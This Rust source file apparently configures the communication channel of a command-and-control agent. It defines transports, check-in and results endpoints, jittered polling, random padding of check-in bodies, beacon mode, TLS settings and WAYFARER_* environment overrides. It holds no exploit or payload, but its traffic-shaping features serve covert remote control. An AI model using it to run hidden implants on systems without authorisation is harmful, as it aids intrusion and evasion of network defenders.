use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;
use std::time::Duration;

/// Wire transport the agent speaks to the controller.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Transport {
    /// Plaintext HTTP/1.1 polling.
    Http,
    /// HTTP/1.1 over TLS polling.
    Https,
    /// HTTP/2 over TLS polling.
    Http2,
    /// HTTP/3 over QUIC polling.
    Http3,
    /// Plaintext WebSocket.
    Ws,
    /// WebSocket over TLS.
    Wss,
}

/// Poll transports request/response on the agent's schedule; duplex
/// transports hold a socket the controller pushes into.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TransportFamily {
    Poll,
    Duplex,
}

impl Transport {
    pub fn family(&self) -> TransportFamily {
        match self {
            Transport::Http | Transport::Https | Transport::Http2 | Transport::Http3 => {
                TransportFamily::Poll
            }
            Transport::Ws | Transport::Wss => TransportFamily::Duplex,
        }
    }

    pub fn uses_tls(&self) -> bool {
        matches!(
            self,
            Transport::Https | Transport::Http2 | Transport::Http3 | Transport::Wss
        )
    }

    /// URL scheme for this transport's endpoints.
    pub fn scheme(&self) -> &'static str {
        match self {
            Transport::Http => "http",
            Transport::Https | Transport::Http2 | Transport::Http3 => "https",
            Transport::Ws => "ws",
            Transport::Wss => "wss",
        }
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Transport::Http => "http",
            Transport::Https => "https",
            Transport::Http2 => "http2",
            Transport::Http3 => "http3",
            Transport::Ws => "ws",
            Transport::Wss => "wss",
        }
    }
}

impl FromStr for Transport {
    type Err = crate::AgentError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_lowercase().as_str() {
            "http" | "h1" => Ok(Transport::Http),
            "https" => Ok(Transport::Https),
            "http2" | "h2" => Ok(Transport::Http2),
            "http3" | "h3" | "quic" => Ok(Transport::Http3),
            "ws" | "websocket" => Ok(Transport::Ws),
            "wss" => Ok(Transport::Wss),
            other => Err(crate::AgentError::Config(format!(
                "unknown transport: {other}"
            ))),
        }
    }
}

impl fmt::Display for Transport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// HTTP verb used for poll check-ins.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "UPPERCASE")]
pub enum CheckInVerb {
    Get,
    Post,
}

impl FromStr for CheckInVerb {
    type Err = crate::AgentError;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_uppercase().as_str() {
            "GET" => Ok(CheckInVerb::Get),
            "POST" => Ok(CheckInVerb::Post),
            other => Err(crate::AgentError::Config(format!(
                "unknown check-in verb: {other}"
            ))),
        }
    }
}

/// Full description of one controller channel. Exactly one config is
/// active at a time; a second exists only transiently as a hop candidate.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ChannelConfig {
    pub transport: Transport,

    /// Controller host or address.
    pub host: String,
    pub port: u16,

    /// Poll check-in endpoint path.
    pub checkin_endpoint: String,
    /// Result submission endpoint path.
    pub results_endpoint: String,
    /// Duplex (WebSocket) endpoint path.
    pub duplex_endpoint: String,

    /// Base interval between poll cycles and reconnect attempts.
    pub poll_interval: Duration,
    /// Jitter fraction in [0, 1] applied to the interval.
    pub jitter: f64,

    pub checkin_verb: CheckInVerb,

    /// Random base64 padding on POST check-in bodies.
    pub padding: bool,
    pub padding_min: usize,
    pub padding_max: usize,

    /// Drop connections after each exchange.
    pub beacon: bool,

    /// Verify the controller's TLS certificate.
    pub verify_tls: bool,
}

impl Default for ChannelConfig {
    fn default() -> Self {
        Self {
            transport: Transport::Https,
            host: "127.0.0.1".to_string(),
            port: 8443,
            checkin_endpoint: "/beacon".to_string(),
            results_endpoint: "/results".to_string(),
            duplex_endpoint: "/channel".to_string(),
            poll_interval: Duration::from_secs(30),
            jitter: 0.2,
            checkin_verb: CheckInVerb::Post,
            padding: false,
            padding_min: 0,
            padding_max: 0,
            beacon: false,
            verify_tls: true,
        }
    }
}

impl ChannelConfig {
    /// Reject configs no Communicator may be built from. Hop candidates
    /// run through this, so a contradictory hop dies before any socket
    /// is opened.
    pub fn validate(&self) -> crate::Result<()> {
        if self.host.is_empty() {
            return Err(crate::AgentError::Config("host must not be empty".into()));
        }
        if self.port == 0 {
            return Err(crate::AgentError::Config("port must not be zero".into()));
        }
        if !(0.0..=1.0).contains(&self.jitter) {
            return Err(crate::AgentError::Config(format!(
                "jitter fraction {} outside [0, 1]",
                self.jitter
            )));
        }
        if self.padding_min > self.padding_max {
            return Err(crate::AgentError::Config(format!(
                "padding bounds inverted: min {} > max {}",
                self.padding_min, self.padding_max
            )));
        }
        Ok(())
    }

    fn endpoint_url(&self, path: &str) -> String {
        format!(
            "{}://{}:{}{}",
            self.transport.scheme(),
            self.host,
            self.port,
            path
        )
    }

    pub fn checkin_url(&self) -> String {
        self.endpoint_url(&self.checkin_endpoint)
    }

    pub fn results_url(&self) -> String {
        self.endpoint_url(&self.results_endpoint)
    }

    pub fn duplex_url(&self) -> String {
        self.endpoint_url(&self.duplex_endpoint)
    }

    /// Build a config from `WAYFARER_*` environment variables, falling
    /// back to defaults for anything unset.
    pub fn from_env() -> crate::Result<Self> {
        let mut config = Self::default();

        if let Ok(v) = std::env::var("WAYFARER_TRANSPORT") {
            config.transport = v.parse()?;
        }
        if let Ok(v) = std::env::var("WAYFARER_HOST") {
            config.host = v;
        }
        if let Ok(v) = std::env::var("WAYFARER_PORT") {
            config.port = v
                .parse()
                .map_err(|_| crate::AgentError::Config(format!("invalid port: {v}")))?;
        }
        if let Ok(v) = std::env::var("WAYFARER_CHECKIN_ENDPOINT") {
            config.checkin_endpoint = v;
        }
        if let Ok(v) = std::env::var("WAYFARER_RESULTS_ENDPOINT") {
            config.results_endpoint = v;
        }
        if let Ok(v) = std::env::var("WAYFARER_DUPLEX_ENDPOINT") {
            config.duplex_endpoint = v;
        }
        if let Ok(v) = std::env::var("WAYFARER_INTERVAL") {
            let secs: u64 = v
                .parse()
                .map_err(|_| crate::AgentError::Config(format!("invalid interval: {v}")))?;
            config.poll_interval = Duration::from_secs(secs);
        }
        if let Ok(v) = std::env::var("WAYFARER_JITTER") {
            config.jitter = v
                .parse()
                .map_err(|_| crate::AgentError::Config(format!("invalid jitter: {v}")))?;
        }
        if let Ok(v) = std::env::var("WAYFARER_VERB") {
            config.checkin_verb = v.parse()?;
        }
        if let Ok(v) = std::env::var("WAYFARER_PADDING") {
            config.padding = v == "1" || v.eq_ignore_ascii_case("true");
        }
        if let Ok(v) = std::env::var("WAYFARER_PADDING_MIN") {
            config.padding_min = v
                .parse()
                .map_err(|_| crate::AgentError::Config(format!("invalid padding min: {v}")))?;
        }
        if let Ok(v) = std::env::var("WAYFARER_PADDING_MAX") {
            config.padding_max = v
                .parse()
                .map_err(|_| crate::AgentError::Config(format!("invalid padding max: {v}")))?;
        }
        if let Ok(v) = std::env::var("WAYFARER_BEACON") {
            config.beacon = v == "1" || v.eq_ignore_ascii_case("true");
        }
        if let Ok(v) = std::env::var("WAYFARER_TLS_VERIFY") {
            config.verify_tls = !(v == "0" || v.eq_ignore_ascii_case("false"));
        }

        config.validate()?;
        Ok(config)
    }
}
